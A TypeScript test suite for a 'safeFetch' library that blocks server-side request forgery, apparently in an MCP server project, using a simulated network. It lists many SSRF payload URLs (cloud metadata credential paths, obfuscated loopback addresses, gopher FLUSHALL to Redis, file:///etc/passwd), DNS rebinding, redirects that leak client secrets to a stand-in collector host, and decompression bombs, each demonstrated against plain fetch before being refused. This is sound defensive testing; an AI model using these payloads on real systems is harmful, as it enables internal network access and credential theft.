/**
 * Server-side request forgery: a URL that somebody else wrote leads into our network. cves.md: CVE-2026-26118 (Azure MCP),
 * mcp-server-fetch #4143; K-28, CD-C3, mcp-checklist.md 133 to 135. In MCP those URLs are resource metadata, authorization servers
 * and all their endpoints, key sets, and client ids (MCP 2026-07-28, Security Best Practices, Server-Side Request Forgery).
 */
import assert from 'node:assert/strict'
import { readFileSync } from 'node:fs'
import { createServer, type IncomingMessage, type RequestListener } from 'node:http'
import { createServer as createSecure } from 'node:https'
import { type AddressInfo, connect, type Socket } from 'node:net'
import { after, before, beforeEach, describe, it } from 'node:test'
import tls from 'node:tls'
import { brotliCompressSync, deflateSync, gzipSync } from 'node:zlib'
import { Agent, fetch } from 'undici'
import { type FetchRefusalCode, FetchRefused } from '../../src/lib/fetch-refused.ts'
import { type SafeFetch, type SafeFetchOptions, safeFetch } from '../../src/lib/safe-fetch.ts'
import { Authority } from './support/certificates.ts'
import { yard } from './support/house.ts'
import { outsideAddress, SmallInternet } from './support/small-internet.ts'

/** Names that somebody gave an address inside; the others that are not in this list are `10.0.0.1`. */
const namesInside: Readonly<Record<string, readonly string[]>> = {
  '127.0.0.1.nip.io': ['127.0.0.1'],
  '169-254-169-254.sslip.io': ['169.254.169.254'],
  'a-7f000001.attacker.com': ['127.0.0.1'],
  'six.attacker.com': ['::1'],
  'mapped.attacker.com': ['::ffff:169.254.169.254'],
  'nat64.attacker.com': ['64:ff9b::a9fe:a9fe'],
  'both.attacker.com': ['169.254.169.254', outsideAddress],
  'scoped.attacker.com': ['fe80::1%eth0'],
  'zero.attacker.com': ['0.0.0.0'],
}

/** Plain fetch gets an answer from inside for every one of these. */
const reachable: readonly (readonly [code: FetchRefusalCode, urls: readonly string[]])[] = [
  [
    'scheme',
    [
      'http://169.254.169.254/latest/meta-data/iam/security-credentials/',
      'http://127.0.0.1/',
      'http://localhost/',
      'http://10.0.0.1/admin',
      'http://192.168.1.1/',
      'http://[::1]/',
      'http://metadata.google.internal/computeMetadata/v1/',
      'HTTP://2852039166/',
      'http:\\\\127.0.0.1\\',
      'http:127.0.0.1',
      ' http://127.0.0.1/ ',
      'ht\ntp://127.0.0.1/',
    ],
  ],
  [
    'address',
    [
      // each range
      'https://0.0.0.0/',
      'https://10.0.0.1/',
      'https://100.64.0.1/',
      'https://100.100.100.200/latest/meta-data/',
      'https://127.0.0.1/',
      'https://127.255.255.254/',
      'https://168.63.129.16/machine?comp=goalstate',
      'https://169.254.169.254/latest/meta-data/',
      'https://169.254.170.2/v2/credentials',
      'https://172.16.0.1/',
      'https://172.31.255.255/',
      'https://192.0.0.192/opc/v2/instance/',
      'https://192.0.2.1/',
      'https://192.88.99.1/',
      'https://192.168.0.1/',
      'https://198.18.0.1/',
      'https://198.51.100.1/',
      'https://203.0.113.1/',
      'https://224.0.0.1/',
      'https://240.0.0.1/',
      'https://255.255.255.255/',
      'https://[::]/',
      'https://[::1]/',
      'https://[100::1]/',
      'https://[2001::1]/',
      'https://[2001:db8::1]/',
      'https://[2002:a9fe:a9fe::]/',
      'https://[64:ff9b::a9fe:a9fe]/',
      'https://[64:ff9b:1::7f00:1]/',
      'https://[fc00::1]/',
      'https://[fd00:ec2::254]/latest/meta-data/',
      'https://[fe80::1]/',
      'https://[fec0::1]/',
      'https://[ff02::1]/',
      'https://[3fff::1]/',
      // each spelling
      'https://0/',
      'https://127.1/',
      'https://127.0.1/',
      'https://0x7f.1/',
      'https://0x7f000001/',
      'https://0X7F.0X0.0x00.0x1/',
      'https://2130706433/',
      'https://017700000001/',
      'https://0177.0.0.01/',
      'https://00000177.0.0.1/',
      'https://127.0.0.1./',
      'https://127%2e0%2e0%2e1/',
      'https://%31%32%37.0.0.1/',
      'https://１２７.０.０.１/',
      'https://127。0。0。1/',
      'https://①②⑦.⓪.⓪.①/',
      'https://169.254.43518/',
      'https://0xa9fea9fe/',
      'https://0251.0376.0251.0376/',
      'https://2852039166/',
      'https://[0:0:0:0:0:0:0:1]/',
      'https://[::127.0.0.1]/',
      'https://[::ffff:127.0.0.1]/',
      'https://[::ffff:7f00:1]/',
      'https://[::FFFF:a9fe:a9fe]/',
      'https://[::ffff:0:127.0.0.1]/',
      'https://[0000:0000:0000:0000:0000:ffff:169.254.169.254]/',
      'https:127.0.0.1',
      'https:/127.0.0.1/',
      'https:\\\\127.0.0.1\\x',
      'https://127.0.0.1\\@attacker.com/',
      'https://127.0.0.1#@attacker.com/',
      'https://127.0.0.1?@attacker.com/',
      'https://127.0.0.1:443/',
      'https://127.0.0.1:8443/',
      'https://10.0.0.1:6443/api/v1/secrets',
      'https://12\t7.0.0.1/',
      'https://@127.0.0.1/',
      // names
      'https://localhost/',
      'https://LOCALHOST/',
      'https://ⓛⓞⓒⓐⓛⓗⓞⓢⓣ/',
      'https://loc\u00adalhost/',
      'https://a.localhost/',
      'https://metadata/',
      'https://metadata.google.internal/computeMetadata/v1/',
      'https://kubernetes.default.svc.cluster.local/',
      'https://vault.corp/',
      'https://printer.local/',
      'https://router.home.arpa/',
      'https://nas.lan/',
      ...Object.keys(namesInside).map((name) => `https://${name}/`),
    ],
  ],
  ['port', ['https://web.corp.com:80/', 'https://web.corp.com:853/', 'https://web.corp.com:902/', 'https://10.0.0.1:444/']],
  ['url', ['https://127.0.0.1.attacker.com./', 'https://localhost./', 'https://a+b.attacker.com/']],
]

/** Plain fetch does not connect either; some it answers from this machine without. */
const unreachable: readonly (readonly [code: FetchRefusalCode, urls: readonly string[]])[] = [
  [
    'scheme',
    [
      ...['file:///etc/passwd', 'ftp://127.0.0.1/', 'gopher://127.0.0.1:6379/_FLUSHALL', 'dict://127.0.0.1:11211/stats'],
      ...['data:application/json,{"keys":[]}', 'blob:https://attacker.com/x', 'javascript:fetch(1)', 'about:blank'],
      ...['ws://127.0.0.1/', 'wss://127.0.0.1/', 'ldap://127.0.0.1/', 'unix:/var/run/docker.sock', 'jar:https://127.0.0.1!/x'],
    ],
  ],
  [
    'credentials',
    [
      'https://attacker.com@127.0.0.1/',
      'https://name:word@attacker.com/',
      'https://attacker.com%40@127.0.0.1/',
      'https://:x@127.0.0.1/',
    ],
  ],
  [
    'port',
    ['https://attacker.com:0/', 'https://attacker.com:6000/', 'https://attacker.com:6667/', 'https://attacker.com:10080/'],
  ],
  [
    'url',
    [
      ...['', '/', '//127.0.0.1/', 'attacker.com', 'https://', 'https://[::1/', 'https://[::1%25lo]/', 'https://[fe80::1%eth0]/'],
      ...['https://256.256.256.256/', 'https://0x100000000/', 'https://1.2.3.4.5/', 'https://127.0.0.1%00.attacker.com/'],
      ...['https://127.0.0.1 .attacker.com/', 'https://127.0.0.1:99999/', `https://${'a.'.repeat(200)}com/`],
      `https://attacker.com/${'a'.repeat(9000)}`,
    ],
  ],
]

const pack = { gzip: gzipSync, deflate: deflateSync, br: brotliCompressSync }
const house = yard()
const authority = new Authority(house.folder(), 'ours')
/** Ours is the second of two: all of them count. */
const ca = [new Authority(house.folder(), 'first'), authority].map(({ cert }) => readFileSync(cert, 'utf8')).join('')
let internet: SmallInternet
let plain: Agent
const routes: Record<string, RequestListener> = {}
const heard: { readonly line: string; readonly headers: IncomingMessage['headers']; readonly body: string }[] = []

const answering =
  (who: string): RequestListener =>
  (request, response) => {
    let body = ''
    request.setEncoding('utf8').on('data', (chunk: string) => {
      body += chunk
    })
    request.on('end', () => {
      heard.push({ line: `${request.method} ${request.headers.host}${request.url}`, headers: request.headers, body })
      const route = who === 'outside' ? routes[request.url as string] : undefined
      if (route) route(request, response)
      else response.end(who)
    })
  }

before(async () => {
  const hosts = [...reachable, ...unreachable]
    .flatMap(([, urls]) => urls)
    .filter((url) => URL.canParse(url) && /^https:/.test(new URL(url).protocol))
    .map((url) => new URL(url).hostname.replace(/^\[(.*)\]$|\.$/g, '$1'))
    .filter((host) => host.length < 64)
  const names = ['attacker.com', 'collector.com', 'idp.corp.com', 'rebind.attacker.com', 'away.attacker.com']
  const { cert, key } = authority.issue('everybody', { hosts: [...new Set([...hosts, ...names])] })
  internet = await SmallInternet.open(answering('outside'), answering('inside'), {
    cert: readFileSync(cert),
    key: readFileSync(key),
  })
  for (const [name, addresses] of Object.entries(namesInside)) internet.names.set(name, addresses)
  for (const name of ['attacker.com', 'collector.com']) internet.names.set(name, [outsideAddress])
  plain = new Agent({ connect: { ca, lookup: internet.lookupForConnect } })
})
beforeEach(() => {
  heard.length = 0
  internet.forget()
})
after(async () => {
  await plain.destroy()
  await internet.close()
  await house.close()
})

const ours = (more: SafeFetchOptions = {}): SafeFetch => safeFetch({ ca, lookup: internet.lookup, ...more })
const theirs = (url: string, init: object = {}) => fetch(url, { dispatcher: plain, ...init })
/** What a fetch without us comes to. */
const careless = async (url: string, init?: object): Promise<string> => (await theirs(url, init)).text()

async function refusedAs(code: FetchRefusalCode, wanted: Promise<unknown>): Promise<FetchRefused> {
  const error = await wanted.then(
    () => assert.fail('fetched'),
    (refused: unknown) => refused,
  )
  assert.ok(error instanceof FetchRefused, String(error))
  assert.equal(error.code, code, error.message)
  assert.notEqual(error.fix, '')
  return error
}
const connections = (): readonly string[] => [...new Set(internet.reached)]

describe('a URL that leads inside', () => {
  for (const [code, urls] of reachable)
    for (const url of urls)
      it(`${code}: ${JSON.stringify(url)}`, async () => {
        assert.equal(await careless(url), 'inside', 'the exploit')
        internet.forget()
        await refusedAs(code, ours()(url))
        assert.deepEqual(internet.reached, [])
      })

  for (const [code, urls] of unreachable)
    for (const url of urls)
      it(`${code}: ${JSON.stringify(url.slice(0, 60))}`, async () => {
        assert.doesNotMatch(await careless(url).catch(() => ''), /inside/)
        internet.forget()
        await refusedAs(code, ours()(url))
        assert.deepEqual([internet.reached, internet.asked], [[], []])
      })

  it('one address inside among many that are not: a client that takes the next when one fails would come to it', async () => {
    internet.names.set('rebind.attacker.com', [outsideAddress, '8.8.8.8', '2606:4700::1111', '::1'])
    const { message } = await refusedAs('address', ours()('https://rebind.attacker.com/'))
    assert.match(message, /leads to ::1, a loopback address/)
    assert.deepEqual(internet.reached, [])
  })

  it('one that leads outside is fetched', async () => {
    assert.equal(await (await ours()('https://attacker.com/')).text(), 'outside')
    assert.equal(await (await ours()('https://attacker.com:8443/')).text(), 'outside')
    assert.deepEqual(internet.reached, [`${outsideAddress} 443`, `${outsideAddress} 8443`])
  })
})

describe('a redirect that leads inside', () => {
  const locations: readonly (readonly [code: FetchRefusalCode, location: string])[] = [
    ['scheme', 'http://169.254.169.254/latest/meta-data/'],
    ['scheme', 'http://[::ffff:169.254.169.254]/'],
    ['address', 'https://169.254.169.254/latest/meta-data/'],
    ['address', '//10.0.0.1/'],
    ['address', '\\\\127.0.0.1\\'],
    ['address', 'https://2852039166/'],
    ['address', 'https://metadata.google.internal/'],
    ['address', 'https://127.0.0.1.nip.io/'],
    ['address', 'https://both.attacker.com/'],
    ['address', 'https://idp.corp.com/'],
    ['port', 'https://web.corp.com:902/'],
  ]
  for (const [code, location] of locations)
    for (const steps of [1, 3])
      it(`${code}: ${location}, after ${steps}`, async () => {
        for (let step = 1; step <= steps; step++)
          routes[`/${step}`] = (_, to) =>
            void to.writeHead(302, { location: step === steps ? location : `https://attacker.com/${step + 1}` }).end()
        assert.equal(await careless('https://attacker.com/1'), 'inside', 'the exploit')
        internet.forget()
        // What the operator trusts is not for others to lead us to.
        await refusedAs(code, ours({ trustedOrigins: ['https://idp.corp.com'] })('https://attacker.com/1'))
        assert.deepEqual(connections(), [`${outsideAddress} 443`])
      })

  it('from https to http, though both are outside', async () => {
    routes['/down'] = (_, to) => void to.writeHead(302, { location: 'http://attacker.com/x' }).end()
    assert.equal(await careless('https://attacker.com/down'), 'outside', 'the exploit')
    internet.forget()
    await refusedAs('scheme', ours()('https://attacker.com/down'))
    assert.deepEqual(connections(), [`${outsideAddress} 443`])
  })

  it('from https to http, though the operator trusts both', async () => {
    internet.names.set('idp.corp.com', [outsideAddress])
    routes['/to-plain'] = (_, to) => void to.writeHead(302, { location: 'http://127.0.0.1:5001/' }).end()
    const own = ours({ trustedOrigins: ['https://idp.corp.com', 'http://127.0.0.1:5001'] })
    assert.equal(await (await own('http://127.0.0.1:5001/')).text(), 'inside')
    internet.forget()
    await refusedAs('redirect', own('https://idp.corp.com/to-plain'))
    assert.deepEqual(connections(), [`${outsideAddress} 443`])
    internet.names.delete('idp.corp.com')
  })

  it('what the operator trusts is his to ask, and to be led about in', async () => {
    const own = ours({ trustedOrigins: ['https://idp.corp.com', 'https://web.corp.com:80'] })
    assert.equal(await (await own('https://idp.corp.com/')).text(), 'inside')
    assert.equal(await (await own('https://web.corp.com:80/')).text(), 'inside')
  })
})

describe('a redirect that takes along what was not meant for it', () => {
  const form = { method: 'POST', body: new URLSearchParams({ code: 'c0de', client_secret: 's3cret' }) }
  before(() => {
    for (const status of [301, 302, 303, 307, 308])
      routes[`/away/${status}`] = (_, to) => void to.writeHead(status, { location: 'https://collector.com/x' }).end()
    routes['/back'] = (_, to) => void to.writeHead(302, { location: 'https://attacker.com/home' }).end()
    routes['/away'] = (_, to) => void to.writeHead(302, { location: 'https://collector.com/back' }).end()
  })

  it('a code and a client secret', async () => {
    await careless('https://attacker.com/away/307', form)
    assert.match(heard.at(-1)?.body ?? '', /s3cret/, 'the exploit')
    for (const status of [301, 302, 303, 307, 308]) {
      heard.length = 0
      const { message } = await refusedAs('redirect', ours()(`https://attacker.com/away/${status}`, form))
      assert.deepEqual([heard.length, message.includes('s3cret')], [1, false])
    }
  })

  it('credentials in headers, there and back', async () => {
    const headers = { authorization: 'Bearer a', cookie: 'b=c', 'x-api-key': 'd', dpop: 'e' }
    await careless('https://attacker.com/away', { headers })
    assert.equal(heard[1]?.headers['x-api-key'], 'd', 'the exploit')
    heard.length = 0
    await ours()('https://attacker.com/away', { headers })
    assert.deepEqual(
      heard.map((each) => [
        each.line,
        each.headers.authorization,
        each.headers.cookie,
        each.headers['x-api-key'],
        each.headers['dpop'],
      ]),
      [
        ['GET attacker.com/away', 'Bearer a', 'b=c', 'd', 'e'],
        ['GET collector.com/back', undefined, undefined, undefined, undefined],
        ['GET attacker.com/home', undefined, undefined, undefined, undefined],
      ],
    )
  })
})

describe('a name that changes its address (rebinding)', () => {
  const turning = (...answers: string[]): void => {
    let next = 0
    internet.names.set('rebind.attacker.com', () => [answers[Math.min(next++, answers.length - 1)] as string])
  }

  it('between the check and the use', async () => {
    turning(outsideAddress, '169.254.169.254')
    const [found] = await internet.lookup('rebind.attacker.com')
    assert.equal(found?.address, outsideAddress)
    assert.equal(await careless('https://rebind.attacker.com/'), 'inside', 'the exploit: checked, then fetched')
    internet.forget()

    turning(outsideAddress, '169.254.169.254')
    assert.equal(await (await ours()('https://rebind.attacker.com/')).text(), 'outside')
    assert.deepEqual([internet.asked, internet.reached], [['rebind.attacker.com'], [`${outsideAddress} 443`]])
  })

  it('between two fetches: nothing that was found is kept', async () => {
    turning(outsideAddress, '127.0.0.1')
    const guarded = ours()
    assert.equal(await (await guarded('https://rebind.attacker.com/')).text(), 'outside')
    await refusedAs('address', guarded('https://rebind.attacker.com/'))
    assert.deepEqual(internet.reached, [`${outsideAddress} 443`])
  })

  it('between a redirect and its end', async () => {
    routes['/again'] = (_, to) => void to.writeHead(302, { location: '/x' }).end()
    turning(outsideAddress, '127.0.0.1')
    await refusedAs('address', ours()('https://rebind.attacker.com/again'))
    assert.deepEqual(internet.reached, [`${outsideAddress} 443`])
  })

  it('of one that the operator trusts, to what is never a server', async () => {
    turning('10.0.0.1', '169.254.169.254')
    const own = ours({ trustedOrigins: ['https://rebind.attacker.com'] })
    assert.equal(await (await own('https://rebind.attacker.com/')).text(), 'inside')
    await refusedAs('address', own('https://rebind.attacker.com/'))
    assert.deepEqual(internet.reached, ['10.0.0.1 443'])
  })
})

describe('an answer without measure', () => {
  const MB = 1 << 20
  const answers: readonly (readonly [says: string, code: FetchRefusalCode, path: string, route: RequestListener])[] = [
    ['8 MB', 'size', '/long', (_, to) => void to.writeHead(200, { 'content-length': 8 * MB }).end(Buffer.alloc(8 * MB, 'x'))],
    [
      '8 MB in chunks',
      'size',
      '/chunks',
      (_, to) => {
        for (let sent = 0; sent < 8; sent++) to.write(Buffer.alloc(MB, 'x'))
        to.end()
      },
    ],
    ...(['gzip', 'deflate', 'br'] as const).map(
      (coding) =>
        [
          `8 MB in ${coding}`,
          'encoding',
          `/${coding}`,
          (_, to) => to.writeHead(200, { 'content-encoding': coding }).end(pack[coding](Buffer.alloc(8 * MB, 32))),
        ] as [string, FetchRefusalCode, string, RequestListener],
    ),
  ]
  for (const [says, code, path, route] of answers)
    it(says, async () => {
      routes[path] = route
      assert.equal((await careless(`https://attacker.com${path}`)).length, 8 * MB, 'the exploit')
      await refusedAs(code, ours()(`https://attacker.com${path}`))
      assert.equal(heard.at(-1)?.headers['accept-encoding'], 'identity')
    })

  it('a byte now and then: ends with the time, and the connection with it', async () => {
    let gone: Promise<unknown> = Promise.reject(new Error('not asked')).catch(() => undefined)
    routes['/drip'] = ({ socket }, to) => {
      gone = new Promise((resolve) => socket.once('close', resolve))
      const timer = setInterval(() => to.write(' '), 10)
      socket.once('close', () => clearInterval(timer))
    }
    const response = await theirs('https://attacker.com/drip')
    const reader = response.body!.getReader()
    for (let read = 0; read < 40; read++) assert.equal((await reader.read()).done, false, 'the exploit: as long as it likes')
    await reader.cancel()
    await refusedAs('time', ours({ timeoutMs: 200 })('https://attacker.com/drip'))
    await gone
  })

  it('redirects that each take their time share it', async () => {
    for (let step = 0; step < 4; step++)
      routes[`/slow/${step}`] = (_, to) => void setTimeout(() => to.writeHead(302, { location: `/slow/${step + 1}` }).end(), 100)
    await refusedAs('time', ours({ timeoutMs: 250 })('https://attacker.com/slow/0'))
  })
})

describe('somebody else in the place of the server', () => {
  const defaults = { DEFAULT_MIN_VERSION: tls.DEFAULT_MIN_VERSION, DEFAULT_CIPHERS: tls.DEFAULT_CIPHERS }
  const servers: readonly (readonly [says: string, options: () => Promise<object>])[] = [
    ['an expired certificate', async () => keysOf(await authority.issue('expired', { days: -1 }))],
    ['a certificate of another authority', async () => keysOf(await new Authority(house.folder(), 'foreign').issue('theirs'))],
    ['a certificate for another name', async () => keysOf(await authority.issue('other', { hosts: ['other.attacker.com'] }))],
    [
      'TLS 1.1',
      async () => ({
        ...keysOf(await authority.issue('old')),
        minVersion: 'TLSv1',
        maxVersion: 'TLSv1.1',
        ciphers: 'DEFAULT:@SECLEVEL=0',
      }),
    ],
  ]
  for (const [says, options] of servers)
    it(`${says}, where all of Node was told not to mind`, async () => {
      const server = createSecure(await options(), (_, to) => void to.end('impostor')).listen(0, '127.0.0.1')
      await new Promise((resolve) => server.once('listening', resolve))
      const { port } = server.address() as AddressInfo
      internet.passing.add(port)
      const url = `https://127.0.0.1:${port}`
      const lax = new Agent()
      Object.assign(tls, { DEFAULT_MIN_VERSION: 'TLSv1', DEFAULT_CIPHERS: 'DEFAULT:@SECLEVEL=0' })
      process.env['NODE_TLS_REJECT_UNAUTHORIZED'] = '0'
      try {
        assert.equal(await careless(url, { dispatcher: lax }), 'impostor', 'the exploit')
        await refusedAs('tls', ours({ trustedOrigins: [url] })(url))
      } finally {
        delete process.env['NODE_TLS_REJECT_UNAUTHORIZED']
        Object.assign(tls, defaults)
        await lax.destroy()
        server.close()
      }
    })
})

describe('through a proxy, which resolves names itself', () => {
  const asked: string[] = []
  const tunnels = new Set<Socket>()
  let proxy: string
  let answer: 'tunnel' | 'refuse' | 'never' | 'mute' = 'tunnel'
  const server = createServer().on('connect', (request: IncomingMessage, socket: Socket) => {
    asked.push(request.url as string)
    tunnels.add(socket.on('error', () => undefined).once('close', () => tunnels.delete(socket)))
    if (answer === 'never') return void socket.resume().once('end', () => socket.end())
    if (answer === 'mute')
      return void socket
        .resume()
        .once('end', () => socket.end())
        .write('HTTP/1.1 200 OK\r\n\r\n')
    if (answer === 'refuse') return void socket.end('HTTP/1.1 403 Forbidden\r\n\r\n')
    const [host, port] = (request.url as string).split(':') as [string, string]
    const tunnel = connect({ host, port: Number(port), lookup: internet.lookupForConnect })
    tunnel.on('error', () => socket.destroy()).once('close', () => socket.destroy())
    socket.write('HTTP/1.1 200 OK\r\n\r\n')
    tunnel.pipe(socket).pipe(tunnel)
  })
  before(async () => {
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
    const { port } = server.address() as AddressInfo
    internet.passing.add(port)
    proxy = `http://gateway:pr0xyword@127.0.0.1:${port}`
  })
  beforeEach(() => {
    asked.length = 0
    answer = 'tunnel'
  })
  after(() => void server.close())
  const proxied = (more: SafeFetchOptions = {}): SafeFetch => ours({ proxy: { https: proxy }, ...more })

  it('an address, a local name, or a name that is known here to lead inside: the proxy is not asked', async () => {
    const urls = [
      'https://169.254.169.254/',
      'https://metadata.google.internal/',
      'https://both.attacker.com/',
      'https://web.corp.com/',
    ]
    for (const url of urls) await refusedAs('address', proxied()(url))
    assert.deepEqual(asked, [])
  })

  it('the name, for the proxy to resolve', async () => {
    assert.equal(await (await proxied()('https://attacker.com/')).text(), 'outside')
    assert.deepEqual(asked, ['attacker.com:443'])
  })

  it('a name that this machine cannot resolve is for the proxy to refuse', async () => {
    const lookup = async (): Promise<never> => Promise.reject(new Error('ENOTFOUND'))
    assert.equal(await (await proxied({ lookup })('https://attacker.com/')).text(), 'outside')
    assert.deepEqual(asked, ['attacker.com:443'])
  })

  it('a name that means something else in every network, even when this machine cannot resolve it', async () => {
    const lookup = async (): Promise<never> => assert.fail('asked')
    const names = [
      'localhost',
      'a.localhost',
      'metadata',
      'metadata.google.internal',
      'printer.local',
      'vault.corp',
      'x.home.arpa',
      'x.onion',
    ]
    for (const name of names) await refusedAs('address', proxied({ lookup })(`https://${name}/`))
    assert.deepEqual(asked, [])
  })

  it('a redirect inside', async () => {
    routes['/proxied'] = (_, to) => void to.writeHead(302, { location: 'https://169.254.169.254/' }).end()
    await refusedAs('address', proxied()('https://attacker.com/proxied'))
    assert.deepEqual(asked, ['attacker.com:443'])
  })

  it('not for those it is not for', async () => {
    assert.equal(
      await (await proxied({ proxy: { https: proxy, no: 'attacker.com' } })('https://attacker.com/')).text(),
      'outside',
    )
    assert.deepEqual(asked, [])
  })

  it('its certificate is not the server’s: verified all the same', async () => {
    internet.names.set('away.attacker.com', [outsideAddress])
    assert.equal(await (await proxied()('https://away.attacker.com/')).text(), 'outside')
    internet.names.set('unknown.attacker.com', [outsideAddress])
    await refusedAs('tls', proxied()('https://unknown.attacker.com/'))
  })

  it('a refusal of the proxy, without its password', async () => {
    answer = 'refuse'
    const { message, stack } = await refusedAs('unreachable', proxied()('https://attacker.com/'))
    assert.match(message, /cannot be reached through the proxy/)
    assert.doesNotMatch(`${message}${stack}`, /pr0xyword/)
  })

  for (const mode of ['never', 'mute'] as const)
    it(`a ${mode === 'never' ? 'proxy' : 'server behind it'} that never answers: ends with the time, and the connection with it`, async () => {
      answer = mode
      await refusedAs('time', proxied({ timeoutMs: 100 })('https://attacker.com/'))
      while (tunnels.size > 0) await new Promise((resolve) => setTimeout(resolve, 5))
    })
})

function keysOf({ cert, key }: { readonly cert: string; readonly key: string }): object {
  return { cert: readFileSync(cert), key: readFileSync(key) }
}
